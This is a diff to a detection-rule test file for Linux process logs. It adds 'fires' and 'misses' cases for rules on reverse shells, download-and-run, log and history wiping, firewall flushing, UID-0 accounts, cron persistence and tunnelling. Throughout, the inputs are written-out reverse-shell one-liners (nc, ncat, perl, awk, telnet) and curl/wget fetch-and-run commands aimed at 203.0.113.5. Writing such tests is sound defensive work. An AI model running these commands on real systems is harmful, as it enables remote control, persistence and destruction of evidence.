@@ -18,10 +18,39 @@ export const LINUX_CASES: RuleCase[] = [
         `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
       ),
       linuxProcess('/usr/bin/nc', 'nc 203.0.113.5 4444 -e /bin/sh'),
+      linuxProcess('/usr/bin/ncat', 'ncat --sh-exec bash 203.0.113.5 4444'),
+      linuxProcess('/usr/bin/ncat', 'ncat --exec /usr/bin/bash 203.0.113.5 4444'),
+      linuxProcess('/bin/busybox', 'busybox nc 203.0.113.5 4444 -e sh'),
+      linuxProcess(
+        '/usr/bin/perl',
+        'perl -MIO::Socket::INET -e $c=new IO::Socket::INET(PeerAddr,"203.0.113.5:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
+      ),
+      // Sysmon for Linux joins argv with spaces and no quotes, as here
+      linuxProcess(
+        '/usr/bin/bash',
+        'bash -c mknod /tmp/backpipe p && /bin/sh 0</tmp/backpipe | nc 203.0.113.5 4444 1>/tmp/backpipe',
+      ),
+      linuxProcess('/usr/bin/sh', 'sh -c telnet 203.0.113.5 4444 | /bin/bash | telnet 203.0.113.5 4445'),
+      linuxProcess(
+        '/usr/bin/gawk',
+        'awk BEGIN {s = "/inet/tcp/0/203.0.113.5/4444"; while (1) {s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}',
+      ),
     ],
     misses: [
       { why: 'bash -i not redirected to /dev/tcp', input: linuxProcess('/usr/bin/bash', 'bash -i') },
       { why: 'netcat checking a port, no shell', input: linuxProcess('/usr/bin/nc', 'nc -zv 10.0.0.5 22') },
+      {
+        why: 'ncat -C (CRLF line ends, case-insensitively -c) talking SMTP',
+        input: linuxProcess('/usr/bin/ncat', 'ncat -C mail.example.com 25'),
+      },
+      {
+        why: "busybox's sed applet with -e",
+        input: linuxProcess('/bin/busybox', 'busybox sed -e s/old/new/ /etc/hosts'),
+      },
+      {
+        why: 'telnet output saved, not piped to a shell',
+        input: linuxProcess('/usr/bin/sh', 'sh -c telnet mail.example.com 25 > /tmp/banner'),
+      },
     ],
   },
   {
@@ -33,6 +62,16 @@ export const LINUX_CASES: RuleCase[] = [
         '-c',
         'cd /tmp && wget -q http://203.0.113.5/m && chmod +x m && ./m',
       ]),
+      linuxProcess(
+        '/usr/bin/bash',
+        'bash -c curl -o /tmp/x http://203.0.113.5/x && chmod +x /tmp/x && /tmp/x',
+      ),
+      linuxProcess(
+        '/usr/bin/sh',
+        'sh -c wget http://203.0.113.5/k -O /var/tmp/k; chmod 777 /var/tmp/k; /var/tmp/k',
+      ),
+      linuxProcess('/usr/bin/bash', 'bash -c bash <(curl -s http://203.0.113.5/x.sh)'),
+      linuxProcess('/usr/bin/bash', 'bash -c sh -c "$(curl -fsSL http://203.0.113.5/x.sh)"'),
     ],
     misses: [
       {
@@ -45,6 +84,20 @@ export const LINUX_CASES: RuleCase[] = [
       {
         why: 'a download piped to a JSON filter, not a shell',
         input: linuxProcess('/usr/bin/bash', 'bash -c "curl -s https://api.example.com/v1/status | jq ."'),
+      },
+      {
+        why: 'a tool downloaded via /tmp, made executable and installed, not run',
+        input: linuxProcess(
+          '/usr/bin/bash',
+          'bash -c curl -Lo /tmp/kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x /tmp/kubectl && sudo mv /tmp/kubectl /usr/local/bin/',
+        ),
+      },
+      {
+        why: 'a download kept in a variable, not run',
+        input: linuxProcess(
+          '/usr/bin/bash',
+          'bash -c TOKEN=$(curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token)',
+        ),
       },
     ],
   },
@@ -69,12 +122,20 @@ export const LINUX_CASES: RuleCase[] = [
     fires: [
       linuxProcess('/bin/bash', LOG4SHELL, { parentImage: JAVA, user: 'tomcat' }),
       linuxProcess('/usr/bin/python3', `python3 -c "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"`),
+      linuxProcess(
+        '/usr/bin/bash',
+        'bash -c bash -c "$(echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUveA== | base64 -d)"',
+      ),
     ],
     misses: [
       { why: 'decoded into a file', input: linuxProcess('/usr/bin/base64', 'base64 -d cert.b64') },
       {
         why: 'decoded text paged, not run',
         input: linuxProcess('/usr/bin/bash', 'bash -c "echo aGVsbG8= | base64 -d | less"'),
+      },
+      {
+        why: 'decoded text kept in a variable, not run',
+        input: linuxProcess('/usr/bin/bash', 'bash -c CERT=$(echo aGVsbG8= | base64 -d)'),
       },
     ],
   },
@@ -84,9 +145,14 @@ export const LINUX_CASES: RuleCase[] = [
       linuxProcess('/usr/bin/rm', 'rm -f /root/.bash_history'),
       linuxProcess('/usr/bin/bash', "bash -c 'history -c'"),
       auditExec('/usr/bin/ln', ['ln', '-sf', '/dev/null', '/home/bob/.bash_history']),
+      linuxProcess('/usr/bin/bash', 'bash -c >/root/.bash_history'),
     ],
     misses: [
       { why: 'reading a history file', input: linuxProcess('/usr/bin/cat', 'cat /root/.bash_history') },
+      {
+        why: 'searching a history file',
+        input: linuxProcess('/usr/bin/grep', 'grep ssh /root/.bash_history'),
+      },
     ],
   },
   {
@@ -95,12 +161,39 @@ export const LINUX_CASES: RuleCase[] = [
       linuxProcess('/usr/bin/rm', 'rm -rf /var/log/auth.log /var/log/syslog'),
       linuxProcess('/usr/bin/bash', "bash -c 'cat /dev/null > /var/log/wtmp'"),
       linuxProcess('/usr/bin/journalctl', 'journalctl --vacuum-time=1s'),
+      linuxProcess('/usr/bin/journalctl', 'journalctl --rotate --vacuum-size=1K'),
+      linuxProcess('/usr/bin/rm', 'rm -rf /run/log/journal/*'),
+      linuxProcess('/usr/bin/find', 'find /var/log -type f -delete'),
+      linuxProcess('/usr/bin/rm', 'rm -f /var/log/sysstat/../auth.log'),
+      linuxProcess('/usr/bin/rm', 'rm -rf /var/log', {
+        parentImage: '/usr/bin/dash',
+        parentCommandLine: '/bin/sh /var/lib/dpkg/info/../../../../tmp/x.postrm purge',
+      }),
     ],
     misses: [
       { why: 'reading a log', input: linuxProcess('/usr/bin/tail', 'tail -n 50 /var/log/auth.log') },
       {
         why: 'logrotate removing an old rotation',
         input: linuxProcess('/usr/bin/rm', 'rm /var/log/syslog.7.gz', { parentImage: '/usr/sbin/logrotate' }),
+      },
+      {
+        why: "sysstat's daily job removing an old data file",
+        input: linuxProcess('/usr/bin/rm', 'rm -f /var/log/sysstat/sa28'),
+      },
+      {
+        why: "Ubuntu's boot scripts removing an old dmesg copy",
+        input: linuxProcess('/usr/bin/rm', 'rm -f -- /var/log//dmesg.4.gz'),
+      },
+      {
+        why: "a package's purge removing its own logs",
+        input: linuxProcess('/usr/bin/rm', 'rm -rf /var/log/nginx', {
+          parentImage: '/usr/bin/dash',
+          parentCommandLine: '/bin/sh /var/lib/dpkg/info/nginx-common.postrm purge',
+        }),
+      },
+      {
+        why: 'finding old logs without deleting them',
+        input: linuxProcess('/usr/bin/find', 'find /var/log -name *.gz -mtime +30'),
       },
     ],
   },
@@ -136,10 +229,27 @@ export const LINUX_CASES: RuleCase[] = [
     fires: [
       linuxProcess('/usr/sbin/ufw', 'ufw disable'),
       auditExec('/usr/sbin/iptables', ['iptables', '-F']),
+      // what Sysmon for Linux really records: ufw is a Python script, iptables a link to xtables-nft-multi
+      linuxProcess('/usr/bin/python3.10', '/usr/bin/python3 /usr/sbin/ufw --force disable'),
+      linuxProcess('/usr/sbin/xtables-nft-multi', 'iptables -t nat -F'),
+      auditExec('/usr/sbin/xtables-legacy-multi', ['iptables', '-F', 'INPUT']),
     ],
     misses: [
       { why: 'listing rules', input: linuxProcess('/usr/sbin/iptables', 'iptables -L -n') },
-      { why: 'enabling the firewall', input: linuxProcess('/usr/sbin/ufw', 'ufw enable') },
+      {
+        why: 'enabling the firewall',
+        input: linuxProcess('/usr/bin/python3.10', '/usr/bin/python3 /usr/sbin/ufw enable'),
+      },
+      {
+        why: 'Docker flushing its own chain',
+        input: linuxProcess('/usr/sbin/iptables', 'iptables --wait -t nat -F DOCKER', {
+          parentImage: '/usr/bin/dockerd',
+        }),
+      },
+      {
+        why: 'fail2ban deleting its own chain',
+        input: linuxProcess('/usr/sbin/xtables-nft-multi', 'iptables -w -X f2b-sshd'),
+      },
     ],
   },
   {
@@ -206,6 +316,74 @@ export const LINUX_CASES: RuleCase[] = [
     ],
   },
   {
+    rule: 'linux/sudo-group-addition-command.yml',
+    fires: [
+      linuxProcess('/usr/sbin/usermod', 'usermod -aG sudo mallory'),
+      auditExec('/usr/sbin/usermod', ['usermod', '-a', '-G', 'adm,wheel', 'mallory']),
+      linuxProcess('/usr/sbin/usermod', 'usermod --append --groups=docker,admin mallory'),
+      linuxProcess('/usr/bin/gpasswd', 'gpasswd -a mallory sudo'),
+      // Debian's adduser is a Perl script: the image is perl
+      linuxProcess('/usr/bin/perl', '/usr/bin/perl /usr/sbin/adduser mallory sudo'),
+    ],
+    misses: [
+      {
+        why: 'a group without sudo rights',
+        input: linuxProcess('/usr/sbin/usermod', 'usermod -aG docker mallory'),
+      },
+      {
+        why: 'a group whose name only starts with sudo',
+        input: linuxProcess('/usr/sbin/usermod', 'usermod -aG sudoers_audit mallory'),
+      },
+      {
+        why: "cloud-init creating the VM's admin user at provisioning",
+        input: linuxProcess(
+          '/usr/sbin/useradd',
+          'useradd azureuser --comment azureuser --groups adm,admin,cdrom,dip,lxd,sudo --shell /bin/bash -m',
+          {
+            parentImage: '/usr/bin/python3.10',
+            parentCommandLine: '/usr/bin/python3 /usr/bin/cloud-init init',
+          },
+        ),
+      },
+    ],
+  },
+  {
+    rule: 'linux/account-created-command.yml',
+    fires: [
+      linuxProcess('/usr/sbin/useradd', 'useradd -m -s /bin/bash backdoor'),
+      auditExec('/usr/sbin/useradd', ['useradd', 'svc-backup']),
+    ],
+    misses: [
+      {
+        why: "a package's maintainer script creating its service account",
+        input: linuxProcess('/usr/sbin/useradd', 'useradd --system --home /var/lib/chrony chrony', {
+          parentImage: '/usr/bin/dash',
+          parentCommandLine: '/bin/sh /var/lib/dpkg/info/chrony.postinst configure',
+        }),
+      },
+      {
+        why: "cloud-init creating the VM's admin user at provisioning",
+        input: linuxProcess('/usr/sbin/useradd', 'useradd azureuser --groups adm,sudo --shell /bin/bash -m', {
+          parentImage: '/usr/bin/python3.10',
+          parentCommandLine: '/usr/bin/python3 /usr/bin/cloud-init init',
+        }),
+      },
+      { why: 'changing an account', input: linuxProcess('/usr/sbin/usermod', 'usermod -s /bin/zsh bob') },
+    ],
+  },
+  {
+    rule: 'linux/suspicious-account-created-command.yml',
+    fires: [
+      linuxProcess('/usr/sbin/useradd', 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor'),
+      linuxProcess('/usr/sbin/useradd', 'useradd --non-unique --uid=0 toor'),
+      auditExec('/usr/sbin/usermod', ['usermod', '-o', '-u', '0', 'mallory']),
+    ],
+    misses: [
+      { why: 'an ordinary user id', input: linuxProcess('/usr/sbin/useradd', 'useradd -u 1000 -m bob') },
+      { why: 'a user id ending in 0', input: linuxProcess('/usr/sbin/usermod', 'usermod -u 2000 bob') },
+    ],
+  },
+  {
     rule: 'linux/sudoers-modified.yml',
     fires: [
       linuxProcess('/usr/bin/bash', `bash -c "echo 'mallory ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"`),
@@ -252,6 +430,23 @@ export const LINUX_CASES: RuleCase[] = [
     ],
   },
   {
+    rule: 'linux/cron-file-written.yml',
+    fires: [
+      linuxProcess('/usr/bin/bash', 'bash -c echo "* * * * * root /tmp/.x/run" > /etc/cron.d/sys'),
+      linuxProcess('/usr/bin/bash', 'bash -c echo "*/5 * * * * root /dev/shm/k" >> /etc/crontab'),
+      auditExec('/usr/bin/cp', ['cp', '/tmp/u', '/var/spool/cron/crontabs/root']),
+      linuxProcess('/usr/bin/tee', 'tee -a /etc/crontab'),
+    ],
+    misses: [
+      { why: 'reading the system crontab', input: linuxProcess('/usr/bin/cat', 'cat /etc/crontab') },
+      { why: 'listing cron.d', input: linuxProcess('/usr/bin/ls', 'ls -l /etc/cron.d/') },
+      {
+        why: 'a cron.daily job being run',
+        input: linuxProcess('/usr/bin/run-parts', 'run-parts --report /etc/cron.daily/'),
+      },
+    ],
+  },
+  {
     rule: 'linux/crontab-modified.yml',
     fires: [lines(syslogLine(0, 'crontab[2003]', '(mallory) REPLACE (mallory)'))],
     misses: [
@@ -282,8 +477,22 @@ export const LINUX_CASES: RuleCase[] = [
     fires: [
       linuxProcess('/bin/sh', 'sh -c id', { parentImage: '/usr/sbin/apache2', user: 'www-data' }),
       linuxProcess('/bin/bash', LOG4SHELL, { parentImage: JAVA, user: 'tomcat' }),
+      linuxProcess('/usr/bin/dash', 'sh -c id', { parentImage: '/usr/bin/php8.1', user: 'www-data' }),
+      linuxProcess('/usr/bin/dash', 'sh -c uname -a', { parentImage: '/usr/bin/node', user: 'www-data' }),
+      // auditd names no parent executable, but its ENRICHED format names the account (UID="www-data")
+      lines(
+        `type=SYSCALL msg=audit(1732788000.000:700): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=900 pid=901 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key=(null)\x1dARCH=x86_64 SYSCALL=execve AUID="unset" UID="www-data" GID="www-data" EUID="www-data" SUID="www-data" FSUID="www-data" EGID="www-data" SGID="www-data" FSGID="www-data"`,
+        'type=EXECVE msg=audit(1732788000.000:700): argc=3 a0="sh" a1="-c" a2="id"',
+      ),
     ],
     misses: [
+      {
+        why: "a web application's cron job, run as the web server's account",
+        input: linuxProcess('/usr/bin/dash', 'sh -c php -f /var/www/nextcloud/cron.php', {
+          parentImage: '/usr/sbin/cron',
+          user: 'www-data',
+        }),
+      },
       {
         why: 'a web server spawning a non-shell',
         input: linuxProcess('/usr/bin/convert', 'convert in.png out.jpg', {
@@ -314,8 +523,22 @@ export const LINUX_CASES: RuleCase[] = [
   },
   {
     rule: 'linux/attack-tool.yml',
-    fires: [linuxProcess('/usr/bin/masscan', 'masscan 10.0.0.0/8 -p22 --rate 10000')],
-    misses: [{ why: 'a ping', input: linuxProcess('/usr/bin/ping', 'ping -c 1 10.0.0.5') }],
+    fires: [
+      linuxProcess('/usr/bin/masscan', 'masscan 10.0.0.0/8 -p22 --rate 10000'),
+      // the interpreter is the image of a script
+      linuxProcess(
+        '/usr/bin/python3.11',
+        '/usr/bin/python3 /usr/bin/sqlmap -u http://10.0.0.7/?id=1 --batch',
+      ),
+      linuxProcess('/usr/bin/perl', '/usr/bin/perl /usr/bin/nikto -h 10.0.0.7'),
+    ],
+    misses: [
+      { why: 'a ping', input: linuxProcess('/usr/bin/ping', 'ping -c 1 10.0.0.5') },
+      {
+        why: 'reading the sqlmap documentation',
+        input: linuxProcess('/usr/bin/less', 'less /usr/share/doc/sqlmap/README.md'),
+      },
+    ],
   },
   {
     rule: 'linux/shadow-file-access.yml',
@@ -378,6 +601,10 @@ export const LINUX_CASES: RuleCase[] = [
     fires: [
       linuxProcess('/usr/bin/socat', 'socat TCP-LISTEN:8080,fork TCP:203.0.113.5:443'),
       linuxProcess('/usr/bin/ssh', 'ssh -fNR 2222:localhost:22 tunnel@203.0.113.5'),
+      linuxProcess(
+        '/usr/sbin/xtables-nft-multi',
+        'iptables -t nat -A PREROUTING -p tcp --dport 8080 -j DNAT --to-destination 203.0.113.5:443',
+      ),
     ],
     misses: [
       {
